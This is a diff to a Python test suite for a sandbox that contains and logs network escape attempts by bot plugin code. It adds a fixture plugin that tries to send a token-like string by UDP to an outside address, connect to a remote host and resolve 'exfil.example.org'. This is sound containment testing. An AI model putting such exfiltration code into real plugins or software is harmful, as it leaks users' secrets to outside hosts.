@@ -65,19 +65,21 @@ METHODS: dict[str, str] = {
     "python_socket": 'socket.create_connection(("127.0.0.1", PORT), timeout=3).send(TOKEN)',
 }
 
-# What records the attempt in the namespace: its kernel counters, or the socket guard.
+# What records the attempt in the namespace: its tap on loopback, which names the destination
+# ({port}, {udp}: the listener's), or the socket guard.
+TCP = "1 refused connection(s): 127.0.0.1:{port}"
 RECORDED_BY: dict[str, str] = {
-    "udp_sendto": "1 datagram(s) to a closed loopback port",
-    "tcp_fast_open": "1 refused connection(s) on loopback",
-    "raw_socket": "1 refused connection(s) on loopback",
-    "ctypes_connect": "1 refused connection(s) on loopback",
-    "subprocess_curl": "1 refused connection(s) on loopback",
-    "os_system": "1 refused connection(s) on loopback",
-    "multiprocessing_child": "1 refused connection(s) on loopback",
+    "udp_sendto": "1 datagram(s) to a closed port: 127.0.0.1:{udp}",
+    "tcp_fast_open": TCP,
+    "raw_socket": TCP,
+    "ctypes_connect": TCP,
+    "subprocess_curl": TCP,
+    "os_system": TCP,
+    "multiprocessing_child": TCP,
     "thread_after_the_run": "",  # the worker ends with the run: the thread never connects
     # The socket guard allows loopback (the served fakes live there): in the namespace,
-    # nothing listens on the worker's own 127.0.0.1, and the kernel counts the refusal.
-    "python_socket": "1 refused connection(s) on loopback",
+    # nothing listens on the worker's own 127.0.0.1, and the tap sees the refusal.
+    "python_socket": TCP,
 }
 
 TEMPLATE = """
@@ -225,11 +227,53 @@ def test_an_escape_is_contained_and_recorded(
     elif expected:
         # The simulator's reference register (alone on an empty shop) tries too: one line each.
         assert escapes
+        recorded = expected.format(port=listener.port, udp=listener.udp_port)
         assert set(escapes) == {
-            f"register of bot1-id at step 1 (register bot=bot1): {expected} (contained)"
+            f"register of bot1-id at step 1 (register bot=bot1): {recorded} (contained)"
         }
     else:
         assert escapes == []
+
+
+FAR_AWAY = """
+import ctypes, socket, subprocess
+def register(ctx):
+    import _socket
+    s = _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM)
+    try:
+        s.connect(("93.184.216.34", 443))
+    except OSError:
+        pass
+    u = _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM)
+    u.sendto(b"shpat_0123456789abcdef", ("198.51.100.7", 9999))
+    subprocess.run(["getent", "hosts", "exfil.example.org"], capture_output=True)
+
+def unregister(ctx):
+    pass
+"""
+
+
+def test_an_escape_names_where_it_was_going(tmp_path: Path) -> None:
+    """Every address is refused on the namespace's loopback, and the tap names it: a host, a
+    datagram's destination, the DNS name a child process tried to resolve."""
+    path = tmp_path / "far_away.py"
+    path.write_text(FAR_AWAY, encoding="utf-8")
+    outcome = supervise(_register_once(path), limits=Limits(isolation="namespace"))
+    assert outcome.stop is None, outcome.stop
+    escapes = [str(text) for kind, text in outcome.messages if kind == "escape"]
+    assert escapes
+    line = escapes[0]
+    assert line.startswith("register of bot1-id at step 1 (register bot=bot1): ")
+    assert "1 refused connection(s): 93.184.216.34:443" in line
+    assert "198.51.100.7:9999" in line
+    nameservers = [
+        entry.split()[1]
+        for entry in Path("/etc/resolv.conf").read_text(encoding="utf-8").splitlines()
+        if entry.startswith("nameserver")
+    ]
+    if nameservers:  # a resolver configured: the query for the name is seen going to it
+        assert "(a DNS query for exfil.example.org)" in line
+    assert "shpat_" not in line
 
 
 def test_guard_only_points_every_proxy_at_a_refusing_port(
@@ -282,7 +326,8 @@ def test_the_report_says_which_isolation_and_lists_the_escapes(
         # One line per register of the scenario (and the simulator's reference register).
         assert len(report["escapes"]) >= 5
         assert f"network escape attempts: {len(report['escapes'])}" in out
-        assert all("datagram(s) to a closed loopback port" in e for e in report["escapes"])
+        udp = f"datagram(s) to a closed port: 127.0.0.1:{listener.udp_port}"
+        assert all(udp in e for e in report["escapes"])
     else:
         # Without the namespace a UDP datagram is the socket guard's to stop (issue 10).
         assert report["escapes"] == []
